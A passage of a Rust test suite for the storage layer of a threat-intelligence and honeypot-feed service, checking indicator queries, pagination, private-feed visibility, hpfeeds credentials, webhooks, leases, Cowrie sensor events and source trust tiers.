        values(&query_all(s, |q| q.tags = vec!["scanner".into()]).await),
        sorted(&["198.51.100.7", "198.51.100.200", "198.51.101.1", "2001:db8::1", "198.51.100.9"])
    );
    assert_eq!(
        values(&query_all(s, |q| q.tags = vec!["scanner".into(), "bruteforce".into()]).await),
        sorted(&["198.51.100.200"]),
        "every tag must be present"
    );
    assert_eq!(
        values(
            &query_all(s, |q| {
                q.tags = vec!["phishing".into()];
                q.itype = Some(IType::Url);
            })
            .await
        ),
        sorted(&["http://a.b.example.com/x"])
    );
    assert!(query_all(s, |q| q.tags = vec!["nope".into()]).await.is_empty());
}

pub async fn query_by_feed_and_time_window(s: &dyn Store) {
    let fx = fixture(s).await;
    assert_eq!(query_all(s, |q| q.feed_ids = Some(vec![fx.open.id])).await.len(), 8);
    assert_eq!(query_all(s, |q| q.feed_ids = Some(vec![fx.other.id, fx.closed.id])).await.len(), 9);
    assert!(query_all(s, |q| q.feed_ids = Some(vec![])).await.is_empty());
    let window = query_all(s, |q| {
        q.since = Some(t("2021-05-05T00:00:00Z"));
        q.until = Some(t("2021-05-07T00:00:00Z"));
    })
    .await;
    assert_eq!(
        window.iter().map(|r| r.indicator.as_str()).collect::<Vec<_>>(),
        vec!["2001:db8:0:1::/64", "2001:db8::1", "198.51.101.1"],
        "inclusive bounds, newest first"
    );
    assert_eq!(query_all(s, |q| q.since = Some(t("2021-05-16T00:00:00Z"))).await.len(), 2);
    assert_eq!(query_all(s, |q| q.until = Some(t("2021-05-01T23:59:59Z"))).await.len(), 1);
}

pub async fn pagination_has_no_duplicates_or_gaps(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "hp", Visibility::Public).await;
    // 57 records, several sharing a lasttime, so the order needs its tie-breaker.
    let batch: Vec<NewSighting> = (0..57)
        .map(|i| sighting(&f, &alice, IType::Ipv4, &format!("192.0.2.{i}"), &format!("2021-05-{:02}T00:00:00Z", 1 + i % 7)))
        .collect();
    s.append_sightings(batch).await.unwrap();
    for (order, limit) in [1, 5, 10, 57, 100].into_iter().flat_map(|l| [(Order::NewestFirst, l), (Order::OldestFirst, l)]) {
        let mut seen = Vec::new();
        let mut cursor = None;
        let mut pages = 0;
        loop {
            let page = s.query(&Query { limit, cursor: cursor.take(), order, ..Default::default() }).await.unwrap();
            assert!(page.items.len() <= limit);
            pages += 1;
            seen.extend(page.items.iter().map(|r| (r.lasttime, r.id)));
            match page.next {
                Some(n) => cursor = Some(n),
                None => break,
            }
            assert!(pages <= 60, "pagination terminates");
        }
        let unique: HashSet<_> = seen.iter().collect();
        assert_eq!((seen.len(), unique.len()), (57, 57), "limit {limit}: every record exactly once");
        match order {
            Order::NewestFirst => assert!(seen.windows(2).all(|w| w[0] > w[1]), "limit {limit}: lasttime desc, id desc"),
            Order::OldestFirst => assert!(seen.windows(2).all(|w| w[0] < w[1]), "limit {limit}: lasttime asc, id asc"),
        }
        assert_eq!(pages, 57usize.div_ceil(limit).max(1), "limit {limit}: no empty trailing page");
    }
    let bad = s.query(&Query { cursor: Some("garbage".into()), ..Default::default() }).await;
    assert!(matches!(bad, Err(StoreError::Invalid(_))));
}

/// Every record of a scan, in the order sent, with the receiver drained by `consume` (which
/// may be slow, to make the store wait).
async fn scan_all(s: &dyn Store, q: &Query, scan: Scan, capacity: usize) -> Vec<ExportRecord> {
    let (tx, mut rx) = tokio::sync::mpsc::channel(capacity);
    let (scanned, received) = tokio::join!(s.scan_records(q, scan, tx), async move {
        let mut all = Vec::new();
        while let Some(batch) = rx.recv().await {
            assert!(!batch.is_empty() && batch.len() <= scan.batch.max(1), "batches of 1..={} records", scan.batch);
            all.extend(batch);
            // A consumer slower than the store: the scan has to wait for it (or resume).
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
        all
    });
    scanned.expect("scan");
    received
}

/// A scan sends exactly what paging through `query` returns, in the same order, for every
/// filter and reader, with the detail fields only when asked for; a slow or vanished
/// receiver loses or repeats nothing.
pub async fn scans_match_queries(s: &dyn Store) {
    let fx = fixture(s).await;
    // More records than a batch, several sharing a lasttime.
    let batch: Vec<NewSighting> = (0..60)
        .map(|i| {
            let mut x = sighting(&fx.open, &fx.alice, IType::Ipv4, &format!("192.0.2.{i}"), &format!("2021-06-{:02}T00:00:00Z", 1 + i % 7));
            x.tags = vec!["scanner".into()];
            x.ports = vec![22];
            x.description = Some("ssh".into());
            x
        })
        .collect();
    s.append_sightings(batch).await.unwrap();
    let reader = |u: &User| Some(Reader { user_id: u.id, admin: u.admin });
    let filters: [fn(&mut Query); 6] = [
        |_| {},
        |q| q.itype = Some(IType::Ipv4),
        |q| q.tags = vec!["scanner".into()],
        |q| q.since = Some(t("2021-05-10T00:00:00Z")),
        |q| q.order = Order::OldestFirst,
        |q| {
            q.order = Order::OldestFirst;
            q.tags = vec!["phishing".into()];
        },
    ];
    for f in filters {
        for who in [None, reader(&fx.alice), reader(&fx.bob), admin_reader()] {
            for feeds in [None, Some(vec![fx.open.id]), Some(vec![fx.other.id, fx.closed.id])] {
                let mut q = Query { reader: who.clone(), feed_ids: feeds.clone(), limit: 7, ..Default::default() };
                f(&mut q);
                let mut paged: Vec<ExportRecord> = Vec::new();
                let mut pq = q.clone();
                loop {
                    let page = s.query(&pq).await.unwrap();
                    paged.extend(page.items.into_iter().map(ExportRecord::from));
                    match page.next {
                        Some(n) => pq.cursor = Some(n),
                        None => break,
                    }
                }
                let what = format!("{who:?} {feeds:?} {q:?}");
                let full = scan_all(s, &q, Scan { details: true, batch: 16 }, 8).await;
                assert_eq!(full, paged, "{what}");
                // A receiver that holds one batch at a time, filled faster than it drains.
                assert_eq!(scan_all(s, &q, Scan { details: true, batch: 5 }, 1).await, paged, "{what}, slow receiver");
                let brief = scan_all(s, &q, Scan { details: false, batch: 16 }, 8).await;
                let stripped: Vec<ExportRecord> = paged
                    .iter()
                    .cloned()
                    .map(|r| ExportRecord { tags: Vec::new(), portlist: Vec::new(), protocol: None, description: None, ..r })
                    .collect();
                assert_eq!(brief, stripped, "{what}, without details");
                if who.is_none() || who.as_ref().is_some_and(|r| r.user_id == fx.alice.id) {
                    assert!(full.iter().all(|r| r.feed_id != fx.closed.id), "{what}: the private feed stays private");
                }
            }
        }
    }
    // From a cursor: the rest of the order.
    let q = Query { reader: admin_reader(), limit: 10, ..Default::default() };
    let first = s.query(&q).await.unwrap();
    let rest = scan_all(s, &Query { cursor: first.next.clone(), ..q.clone() }, Scan::default(), 4).await;
    let all = scan_all(s, &q, Scan::default(), 4).await;
    assert_eq!(rest.as_slice(), &all[10..]);
    assert_eq!(all.len(), 77);
    // A receiver that goes away ends the scan, without an error.
    let (tx, mut rx) = tokio::sync::mpsc::channel(1);
    let taken = async move {
        let one = rx.recv().await;
        drop(rx);
        one
    };
    let (scanned, one) = tokio::join!(s.scan_records(&q, Scan { details: false, batch: 3 }, tx), taken);
    scanned.expect("a closed receiver is not an error");
    assert_eq!(one.map(|b| b.len()), Some(3));
    let bad = Query { cursor: Some("garbage".into()), ..q };
    let (tx, _rx) = tokio::sync::mpsc::channel(1);
    assert!(matches!(s.scan_records(&bad, Scan::default(), tx).await, Err(StoreError::Invalid(_))));
}

pub async fn private_feeds_are_never_visible_to_others(s: &dyn Store) {
    let fx = fixture(s).await;
    let carol = user(s, "carol").await;
    let root = s.create_user("root", true).await.unwrap();
    let as_reader = |reader: Option<Reader>, f: fn(&mut Query)| async move {
        let mut q = Query { reader, limit: 1000, ..Default::default() };
        f(&mut q);
        s.query(&q).await.unwrap().items
    };
    let reader = |u: &User| Some(Reader { user_id: u.id, admin: u.admin });
    let private_values = ["198.51.100.9", "secret.example.com"];
    let filters: [fn(&mut Query); 6] = [
        |_| {},
        |q| q.value = Some("198.51.100.9".into()),
        |q| q.within = Some("198.51.100.0/24".into()),
        |q| q.domain = Some("example.com".into()),
        |q| q.tags = vec!["phishing".into()],
        |q| q.itype = Some(IType::Fqdn),
    ];
    for f in filters {
        for who in [None, reader(&fx.alice), reader(&carol)] {
            let items = as_reader(who.clone(), f).await;
            assert!(items.iter().all(|r| r.feed_id != fx.closed.id), "{who:?} must not see the private feed");
            assert!(items.iter().all(|r| !private_values.contains(&r.indicator.as_str())));
        }
        // The owner and admins do.
        for who in [reader(&fx.bob), reader(&root)] {
            let items = as_reader(who, f).await;
            if !items.is_empty() && items.iter().any(|r| private_values.contains(&r.indicator.as_str())) {
                assert!(items.iter().any(|r| r.feed_id == fx.closed.id));
            }
        }
    }
    assert_eq!(as_reader(reader(&fx.bob), |q| q.value = Some("198.51.100.9".into())).await.len(), 1);
    assert_eq!(as_reader(reader(&root), |q| q.domain = Some("secret.example.com".into())).await.len(), 1);
    // Naming the private feed explicitly does not open it.
    let mut q = Query { feed_ids: Some(vec![fx.closed.id]), reader: reader(&carol), ..Default::default() };
    assert!(s.query(&q).await.unwrap().items.is_empty());
    q.reader = None;
    assert!(s.query(&q).await.unwrap().items.is_empty());
    // A grant does.
    s.grant_feed_access("bob", "closed", "carol").await.unwrap();
    q.reader = reader(&carol);
    assert_eq!(s.query(&q).await.unwrap().items.len(), 2);
    // Anonymous readers see exactly the public records.
    assert_eq!(as_reader(None, |_| {}).await.len(), 15);
}

pub async fn deleting_a_feed_removes_its_records(s: &dyn Store) {
    let fx = fixture(s).await;
    assert_eq!(s.get_indicator("198.51.100.7").await.unwrap().unwrap().feeds, 2);
    s.delete_feed("bob", "other").await.unwrap();
    assert!(query_all(s, |q| q.feed_ids = Some(vec![fx.other.id])).await.is_empty());
    assert!(query_all(s, |q| q.domain = Some("example.org".into())).await.is_empty());
    let left = s.get_indicator("198.51.100.7").await.unwrap().unwrap();
    assert_eq!((left.feeds, left.sources, left.count), (1, 1, 1));
    assert_eq!(left.lasttime, t("2021-05-01T00:00:00Z"), "recomputed from the remaining feed");
    assert_eq!(s.get_indicator("example.com").await.unwrap(), None, "no feed holds it any more");
    assert!(s.sightings_of("example.com", None, 10).await.unwrap().is_empty());
    assert_eq!(query_all(s, |_| {}).await.len(), 10);
}

pub async fn stats_count_everything(s: &dyn Store) {
    assert_eq!(s.stats().await.unwrap().sightings, 0);
    fixture(s).await;
    let st = s.stats().await.unwrap();
    assert_eq!((st.users, st.feeds, st.sightings, st.records), (2, 3, 17, 17));
    assert_eq!(st.indicators, 16, "198.51.100.7 is in two feeds");
}

pub async fn hpfeeds_idents_are_stored_replaced_and_removed(s: &dyn Store) {
    user(s, "alice").await;
    feed(s, "alice", "pots", Visibility::Public).await;
    assert_eq!(s.get_hpfeeds_ident("pot1").await.unwrap(), None);
    let new = NewHpfeedsIdent {
        ident: "pot1".into(),
        secret: "s3cret".into(),
        publish: vec!["cowrie.sessions".into(), "cowrie.sessions".into()],
        subscribe: vec!["apiary.sightings".into()],
        feed: Some("alice/pots".into()),
    };
    let stored = s.upsert_hpfeeds_ident(new.clone()).await.unwrap();
    assert_eq!(stored.ident, "pot1");
    assert_eq!(stored.secret, "s3cret", "the protocol needs the secret itself");
    assert_eq!(stored.publish, ["cowrie.sessions"], "channel lists are deduplicated");
    assert_eq!(stored.subscribe, ["apiary.sightings"]);
    assert_eq!(stored.feed.as_deref(), Some("alice/pots"));
    assert_eq!(s.get_hpfeeds_ident("pot1").await.unwrap(), Some(stored.clone()));
    assert!(
        !serde_json::to_string(&stored).unwrap().contains("s3cret"),
        "listing an ident never shows its secret"
    );

    // Upserting replaces everything but the creation time.
    let replaced = s
        .upsert_hpfeeds_ident(NewHpfeedsIdent { secret: "n3w".into(), publish: vec![], feed: None, ..new })
        .await
        .unwrap();
    assert_eq!((replaced.secret.as_str(), replaced.publish.len(), replaced.feed.as_deref()), ("n3w", 0, None));
    assert_eq!(replaced.created_at, stored.created_at);
    assert!(replaced.updated_at >= stored.updated_at);

    let other = NewHpfeedsIdent { ident: "consumer".into(), secret: "x".into(), ..Default::default() };
    s.upsert_hpfeeds_ident(other).await.unwrap();
    let names: Vec<String> = s.list_hpfeeds_idents().await.unwrap().into_iter().map(|i| i.ident).collect();
    assert_eq!(names, ["consumer", "pot1"]);

    s.delete_hpfeeds_ident("pot1").await.unwrap();
    assert_eq!(s.get_hpfeeds_ident("pot1").await.unwrap(), None);
    assert!(matches!(s.delete_hpfeeds_ident("pot1").await, Err(StoreError::NotFound(_))));
    assert_eq!(s.list_hpfeeds_idents().await.unwrap().len(), 1);
}

pub async fn hpfeeds_idents_are_checked(s: &dyn Store) {
    let ok = || NewHpfeedsIdent { ident: "pot1".into(), secret: "s".into(), ..Default::default() };
    for (case, bad) in [
        ("empty ident", NewHpfeedsIdent { ident: String::new(), ..ok() }),
        ("ident over 255 bytes", NewHpfeedsIdent { ident: "x".repeat(256), ..ok() }),
        ("empty secret", NewHpfeedsIdent { secret: String::new(), ..ok() }),
        ("control character in a channel", NewHpfeedsIdent { publish: vec!["a\nb".into()], ..ok() }),
        ("feed without owner", NewHpfeedsIdent { feed: Some("pots".into()), ..ok() }),
    ] {
        assert!(matches!(s.upsert_hpfeeds_ident(bad).await, Err(StoreError::Invalid(_))), "{case}");
    }
    let missing = NewHpfeedsIdent { feed: Some("nobody/none".into()), ..ok() };
    assert!(matches!(s.upsert_hpfeeds_ident(missing).await, Err(StoreError::NotFound(_))));
    assert!(s.list_hpfeeds_idents().await.unwrap().is_empty(), "nothing refused was stored");
}

pub async fn sightings_log_reads_after_a_seq_in_order(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let b = feed(s, "alice", "b", Visibility::Private).await;
    assert_eq!(s.last_sighting_seq().await.unwrap(), 0, "an empty log");
    let mut batch = Vec::new();
    for i in 0..10 {
        let f = if i % 2 == 0 { &a } else { &b };
        let mut new = sighting(f, &alice, IType::Ipv4, &format!("192.0.2.{i}"), "2026-01-01T00:00:00Z");
        new.tags = vec!["scanner".into()];
        new.ports = vec![22];
        new.observed_until = Some(t("2026-01-01T00:00:05Z"));
        batch.push(new);
    }
    // A duplicate is not in the log.
    batch[3].idempotency_key = Some("k".into());
    let mut dup = batch[3].clone();
    dup.value = "192.0.2.3".into();
    let out = s.append_sightings(batch).await.unwrap();
    assert!(s.append_sightings(vec![dup]).await.unwrap()[0].duplicate);
    let seqs: Vec<i64> = out.iter().map(|o| o.seq.unwrap()).collect();
    assert_eq!(s.last_sighting_seq().await.unwrap(), *seqs.last().unwrap());

    let all = s.sightings_after(0, None, 100).await.unwrap();
    assert_eq!(all.iter().map(|l| l.seq).collect::<Vec<_>>(), seqs, "every entry, in seq order");
    let first = &all[0];
    assert_eq!((first.feed.as_str(), first.feed_id, first.indicator.as_str()), ("alice/a", a.id, "192.0.2.0"));
    assert_eq!((first.itype, first.record_id), (IType::Ipv4, out[0].record_id));
    assert_eq!((first.tags.clone(), first.portlist.clone()), (vec!["scanner".to_string()], vec![22]));
    assert_eq!(first.observed_until, Some(t("2026-01-01T00:00:05Z")));

    // After a seq, limited, and paged without gaps or repeats.
    let mut paged = Vec::new();
    let mut after = 0;
    loop {
        let page = s.sightings_after(after, None, 3).await.unwrap();
        assert!(page.len() <= 3);
        let Some(last) = page.last() else { break };
        after = last.seq;
        paged.extend(page.into_iter().map(|l| l.seq));
    }
    assert_eq!(paged, seqs);
    assert_eq!(s.sightings_after(seqs[4], None, 100).await.unwrap().len(), 5);
    assert!(s.sightings_after(*seqs.last().unwrap(), None, 100).await.unwrap().is_empty());

    // Only the given feeds.
    let only_a = s.sightings_after(0, Some(&[a.id]), 100).await.unwrap();
    assert_eq!(only_a.len(), 5);
    assert!(only_a.iter().all(|l| l.feed == "alice/a"));
    assert!(s.sightings_after(0, Some(&[]), 100).await.unwrap().is_empty(), "no readable feed: nothing");
}

pub async fn feed_subscriptions_are_per_user(s: &dyn Store) {
    user(s, "alice").await;
    user(s, "bob").await;
    feed(s, "alice", "a", Visibility::Public).await;
    feed(s, "alice", "b", Visibility::Public).await;
    assert!(s.list_subscriptions("bob").await.unwrap().is_empty());
    let f = s.subscribe_feed("bob", "alice", "b").await.unwrap();
    assert_eq!(f.full_name(), "alice/b");
    s.subscribe_feed("bob", "alice", "a").await.unwrap();
    s.subscribe_feed("bob", "alice", "a").await.expect("subscribing twice changes nothing");
    let names = |v: Vec<Feed>| v.into_iter().map(|f| f.full_name()).collect::<Vec<_>>();
    assert_eq!(names(s.list_subscriptions("bob").await.unwrap()), vec!["alice/a", "alice/b"]);
    assert!(s.list_subscriptions("alice").await.unwrap().is_empty(), "subscriptions are per user");
    s.unsubscribe_feed("bob", "alice", "a").await.unwrap();
    assert_eq!(names(s.list_subscriptions("bob").await.unwrap()), vec!["alice/b"]);
    assert!(matches!(s.unsubscribe_feed("bob", "alice", "a").await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.subscribe_feed("bob", "alice", "nope").await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.subscribe_feed("nobody", "alice", "a").await, Err(StoreError::NotFound(_))));
}

pub async fn webhooks_keep_their_cursor_and_state(s: &dyn Store) {
    user(s, "alice").await;
    user(s, "bob").await;
    let new = |u: &str, url: &str| NewWebhook {
        user: u.into(),
        url: url.into(),
        secret: "0123456789abcdef0123".into(),
        filter: serde_json::json!({"feeds": ["alice/a"]}),
        cursor: 7,
    };
    let w = s.create_webhook(new("alice", "https://example.net/hook")).await.unwrap();
    assert_eq!((w.user.as_str(), w.cursor, w.state, w.failures), ("alice", 7, WebhookState::Active, 0));
    assert_eq!(w.filter, serde_json::json!({"feeds": ["alice/a"]}));
    assert_eq!(w.secret, "0123456789abcdef0123");
    let other = s.create_webhook(new("bob", "http://127.0.0.1:9/x")).await.unwrap();
    assert!(matches!(s.create_webhook(new("alice", "ftp://example.net/")).await, Err(StoreError::Invalid(_))));
    let mut short = new("alice", "https://example.net/");
    short.secret = "short".into();
    assert!(matches!(s.create_webhook(short).await, Err(StoreError::Invalid(_))));

    let ids = |v: Vec<Webhook>| v.into_iter().map(|w| w.id).collect::<Vec<_>>();
    assert_eq!(ids(s.list_webhooks(Some("alice")).await.unwrap()), vec![w.id]);
    assert_eq!(ids(s.list_webhooks(None).await.unwrap()), vec![w.id, other.id]);

    let paused = WebhookProgress { cursor: 42, failures: 8, state: WebhookState::Paused, last_error: Some("HTTP 500".into()) };
    s.set_webhook_progress(w.id, paused).await.unwrap();
    let got = s.get_webhook(w.id).await.unwrap().unwrap();
    assert_eq!((got.cursor, got.failures, got.state, got.last_error.as_deref()), (42, 8, WebhookState::Paused, Some("HTTP 500")));
    // The cursor never moves back.
    let back = WebhookProgress { cursor: 10, failures: 0, state: WebhookState::Paused, last_error: None };
    s.set_webhook_progress(w.id, back).await.unwrap();
    assert_eq!(s.get_webhook(w.id).await.unwrap().unwrap().cursor, 42);
    let resumed = s.resume_webhook(w.id).await.unwrap();
    assert_eq!((resumed.state, resumed.failures, resumed.cursor), (WebhookState::Active, 0, 42));

    s.delete_webhook(w.id).await.unwrap();
    assert_eq!(s.get_webhook(w.id).await.unwrap(), None);
    assert!(matches!(s.delete_webhook(w.id).await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.resume_webhook(w.id).await, Err(StoreError::NotFound(_))));
}

pub async fn leases_are_exclusive_expire_and_release(s: &dyn Store) {
    let ttl = std::time::Duration::from_millis(400);
    let long = std::time::Duration::from_secs(60);
    assert!(s.get_lease("jobs").await.unwrap().is_none(), "never taken");
    let a = s.acquire_lease("jobs", "node-a", ttl).await.unwrap().expect("free: node-a takes it");
    assert_eq!((a.name.as_str(), a.holder.as_str()), ("jobs", "node-a"));
    assert!(s.acquire_lease("jobs", "node-b", long).await.unwrap().is_none(), "held: node-b waits");
    assert!(s.acquire_lease("other", "node-b", long).await.unwrap().is_some(), "leases are per name");
    let again = s.acquire_lease("jobs", "node-a", ttl).await.unwrap().expect("the holder renews by acquiring");
    assert_eq!(again.epoch, a.epoch, "same holder, same epoch");
    assert!(s.renew_lease("jobs", "node-a", ttl).await.unwrap());
    assert!(!s.renew_lease("jobs", "node-b", ttl).await.unwrap(), "only the holder renews");
    assert_eq!(s.get_lease("jobs").await.unwrap().unwrap().holder, "node-a");

    // node-a stops renewing (it died): after the TTL node-b takes over, with a new epoch.
    tokio::time::sleep(ttl + std::time::Duration::from_millis(200)).await;
    let b = s.acquire_lease("jobs", "node-b", long).await.unwrap().expect("expired: node-b takes it");
    assert_eq!(b.holder, "node-b");
    assert!(b.epoch > a.epoch, "a new holder, a new epoch");
    assert!(!s.renew_lease("jobs", "node-a", ttl).await.unwrap(), "the old holder has lost it");
    assert!(s.acquire_lease("jobs", "node-a", ttl).await.unwrap().is_none());

    // Releasing someone else's lease changes nothing; releasing one's own frees it at once.
    s.release_lease("jobs", "node-a").await.unwrap();
    assert_eq!(s.get_lease("jobs").await.unwrap().unwrap().holder, "node-b");
    s.release_lease("jobs", "node-b").await.unwrap();
    assert!(s.get_lease("jobs").await.unwrap().is_none());
    assert!(s.acquire_lease("jobs", "node-a", ttl).await.unwrap().is_some(), "released: free at once");

    assert!(matches!(s.acquire_lease("", "node-a", ttl).await, Err(StoreError::Invalid(_))));
    assert!(matches!(s.acquire_lease("jobs", "bad\nholder", ttl).await, Err(StoreError::Invalid(_))));
}

/// Several writers append at once while a reader tails the log by seq (as the bus feeder and
/// every stream do): the reader must end up with every entry. A store whose seqs become
/// visible out of order (a later seq committed before an earlier one) fails this.
pub async fn log_readers_never_skip_a_concurrent_commit(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let f = feed(s, "alice", "busy", Visibility::Public).await;
    let done = std::sync::atomic::AtomicUsize::new(0);
    const WRITERS: usize = 4;
    const BATCHES: usize = 40;
    let writer = |w: usize| {
        let (alice, f, done) = (&alice, &f, &done);
        async move {
            for b in 0..BATCHES {
                let batch = (0..1 + (b + w) % 3)
                    .map(|i| sighting(f, alice, IType::Ipv4, &format!("198.51.{w}.{}", (b * 3 + i) % 250), "2026-01-01T00:00:00Z"))
                    .collect();
                s.append_sightings(batch).await.expect("append");
                tokio::task::yield_now().await;
            }
            done.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    };
    let reader = async {
        let mut seen = Vec::new();
        let mut after = 0;
        loop {
            let finished = done.load(std::sync::atomic::Ordering::SeqCst) == WRITERS;
            let page = s.sightings_after(after, None, 1000).await.expect("read the log");
            if let Some(last) = page.last() {
                after = last.seq;
            }
            seen.extend(page.into_iter().map(|l| l.seq));
            if finished {
                // One more read after the last writer finished: everything is committed now.
                let rest = s.sightings_after(after, None, 10_000).await.expect("read the log");
                seen.extend(rest.into_iter().map(|l| l.seq));
                return seen;
            }
            tokio::time::sleep(std::time::Duration::from_millis(1)).await;
        }
    };
    let (seen, ..) = tokio::join!(reader, writer(0), writer(1), writer(2), writer(3));
    let all: Vec<i64> = s.sightings_after(0, None, 10_000).await.unwrap().into_iter().map(|l| l.seq).collect();
    assert!(all.len() >= WRITERS * BATCHES, "every batch logged");
    let seen_set: HashSet<i64> = seen.iter().copied().collect();
    let skipped: Vec<i64> = all.iter().copied().filter(|q| !seen_set.contains(q)).collect();
    assert!(skipped.is_empty(), "a reader tailing by seq skipped {} entries (e.g. {:?})", skipped.len(), &skipped[..skipped.len().min(5)]);
    assert_eq!(seen.len(), all.len(), "and saw none twice");
}

// ---- raw sensor events (docs/sensor.md) ----

fn sensor_event(key: &str, session: Option<&str>, eventid: &str) -> crate::NewSensorEvent {
    crate::NewSensorEvent {
        key: key.into(),
        sensor: "pot1".into(),
        kind: "cowrie".into(),
        session: session.map(str::to_owned),
        eventid: Some(eventid.into()),
        closes_session: eventid == "cowrie.session.closed",
        event: format!(r#"{{"eventid":"{eventid}","key":"{key}"}}"#),
    }
}

pub async fn sensor_events_store_each_key_once(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let a = feed(s, "alice", "pots", Visibility::Private).await;
    let b = feed(s, "alice", "other", Visibility::Private).await;
    let now = t("2026-01-01T00:00:00Z");
    let batch = vec![
        sensor_event("k1", Some("s1"), "cowrie.session.connect"),
        sensor_event("k2", Some("s1"), "cowrie.login.failed"),
        sensor_event("k1", Some("s1"), "cowrie.session.connect"),
    ];
    let out = s.append_sensor_events(a.id, alice.id, now, batch).await.unwrap();
    assert_eq!(out.iter().map(|o| o.duplicate).collect::<Vec<_>>(), [false, false, true], "a repeat in one batch");
    assert_eq!(out[2].seq, out[0].seq, "a duplicate names the first copy");
    assert!(out[1].seq > out[0].seq, "seq follows the request order");

    // Sent again (a retried batch): nothing new. The same key in another feed is another event.
    let again = vec![sensor_event("k2", Some("s1"), "cowrie.login.failed"), sensor_event("k3", None, "cowrie.log.stats")];
    let out = s.append_sensor_events(a.id, alice.id, now, again.clone()).await.unwrap();
    assert_eq!(out.iter().map(|o| o.duplicate).collect::<Vec<_>>(), [true, false]);
    let out = s.append_sensor_events(b.id, alice.id, now, again).await.unwrap();
    assert!(out.iter().all(|o| !o.duplicate), "keys are per feed");

    let counts = s.sensor_event_counts(a.id).await.unwrap();
    assert_eq!(counts, crate::SensorEventCounts { events: 3, pending: 2, sensors: 1 }, "an event without a session is not pending");
    let stored = s.sensor_events_after(a.id, 0, 100).await.unwrap();
    assert_eq!(stored.iter().map(|e| e.key.as_str()).collect::<Vec<_>>(), ["k1", "k2", "k3"]);
    assert_eq!(stored[1].event, r#"{"eventid":"cowrie.login.failed","key":"k2"}"#, "the event is kept as sent");
    assert_eq!(stored[1].session.as_deref(), Some("s1"));
    assert_eq!(stored[1].reporter_id, alice.id);
    assert_eq!(stored[1].received_at, now);
    assert!(!stored[0].done && stored[2].done);
    assert_eq!(s.sensor_events_after(a.id, stored[0].seq, 1).await.unwrap()[0].key, "k2", "after and limit");

    assert!(matches!(s.append_sensor_events(9999, alice.id, now, vec![sensor_event("x", None, "e")]).await, Err(StoreError::NotFound(_))));
    let long = sensor_event(&"k".repeat(crate::events::MAX_EVENT_KEY + 1), None, "e");
    assert!(matches!(s.append_sensor_events(a.id, alice.id, now, vec![long]).await, Err(StoreError::Invalid(_))));
    assert_eq!(s.sensor_event_counts(a.id).await.unwrap().events, 3, "nothing refused was stored");
}

pub async fn sensor_sessions_are_ready_when_closed_or_idle(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let a = feed(s, "alice", "pots", Visibility::Private).await;
    let at = t("2026-01-01T00:00:00Z");
    let batch = vec![
        sensor_event("a1", Some("closed"), "cowrie.session.connect"),
        sensor_event("b1", Some("open"), "cowrie.session.connect"),
        sensor_event("a2", Some("closed"), "cowrie.session.closed"),
    ];
    s.append_sensor_events(a.id, alice.id, at, batch).await.unwrap();

    // Before the idle timeout only the closed session is ready; after it, both.
    let ready = s.ready_sensor_sessions(at - Duration::minutes(5), 10).await.unwrap();
    assert_eq!(ready.len(), 1, "{ready:?}");
    let closed = ready[0].clone();
    assert_eq!((closed.session.as_str(), closed.closed, closed.sensor.as_str(), closed.kind.as_str()), ("closed", true, "pot1", "cowrie"));
    assert_eq!(closed.reporter_id, alice.id);
    let ready = s.ready_sensor_sessions(at + Duration::seconds(1), 10).await.unwrap();
    assert_eq!(ready.iter().map(|p| p.session.as_str()).collect::<Vec<_>>(), ["closed", "open"], "oldest first");
    assert_eq!(s.ready_sensor_sessions(at + Duration::seconds(1), 1).await.unwrap().len(), 1, "limit");

    let events = s.sensor_session_events(a.id, "pot1", "cowrie", "closed", 100).await.unwrap();
    assert_eq!(events.iter().map(|e| e.key.as_str()).collect::<Vec<_>>(), ["a1", "a2"]);
    assert_eq!(closed.last_seq, events[1].seq);

    // An event arriving after the session was read stays pending when it is finished.
    s.append_sensor_events(a.id, alice.id, at, vec![sensor_event("a3", Some("closed"), "cowrie.log.closed")]).await.unwrap();
    s.finish_sensor_sessions(&[closed]).await.unwrap();
    assert_eq!(s.sensor_event_counts(a.id).await.unwrap().pending, 2, "b1 and the late a3");
    let ready = s.ready_sensor_sessions(at - Duration::minutes(5), 10).await.unwrap();
    assert!(ready.is_empty(), "the late event does not close the session again: {ready:?}");
    let ready = s.ready_sensor_sessions(at + Duration::seconds(1), 10).await.unwrap();
    let late = ready.iter().find(|p| p.session == "closed").expect("the late event makes its session ready when idle");
    assert!(!late.closed);
    let all = s.sensor_session_events(a.id, "pot1", "cowrie", "closed", 100).await.unwrap();
    assert_eq!(all.iter().map(|e| (e.key.as_str(), e.done)).collect::<Vec<_>>(), [("a1", true), ("a2", true), ("a3", false)]);

    s.finish_sensor_sessions(&ready).await.unwrap();
    s.finish_sensor_sessions(&ready).await.unwrap(); // again: no change
    assert_eq!(s.sensor_event_counts(a.id).await.unwrap().pending, 0);
    assert!(s.ready_sensor_sessions(at + Duration::days(1), 10).await.unwrap().is_empty());
}

// ------------------------------------------------------------------ trust (migration sqlite 0008 / pg 0004)

pub async fn trust_sources_default_and_keep_pinned_tiers(s: &dyn Store) {
    use apiary_core::trust::Tier;
    s.create_user("root", true).await.unwrap();
    user(s, "bob").await;
    let own = feed(s, "root", "honeypots", Visibility::Public).await;
    let b = feed(s, "bob", "list", Visibility::Private).await;
    let list = s.list_sources().await.unwrap();
    assert_eq!(list.iter().map(|x| (x.feed.as_str(), x.tier, x.pinned)).collect::<Vec<_>>(),
        vec![("bob/list", Tier::Probation, false), ("root/honeypots", Tier::Seed, false)], "defaults: admin feeds seed, others probation");
    let bob = &list[0];
    assert_eq!((bob.feed_id, bob.alpha, bob.beta, bob.leads, bob.group_id), (b.id, 1.0, 9.0, 0, None), "the prior Beta(1, 9)");

    // The job's update moves an unpinned source; an admin's tier is pinned against it.
    let up = |id: i64, tier: Tier| crate::SourceUpdate { feed_id: id, tier, alpha: 12.0, beta: 9.5, leads: 11, penalties: 1, last_penalty: Some(t("2026-01-02T00:00:00Z")), group_id: Some(3) };
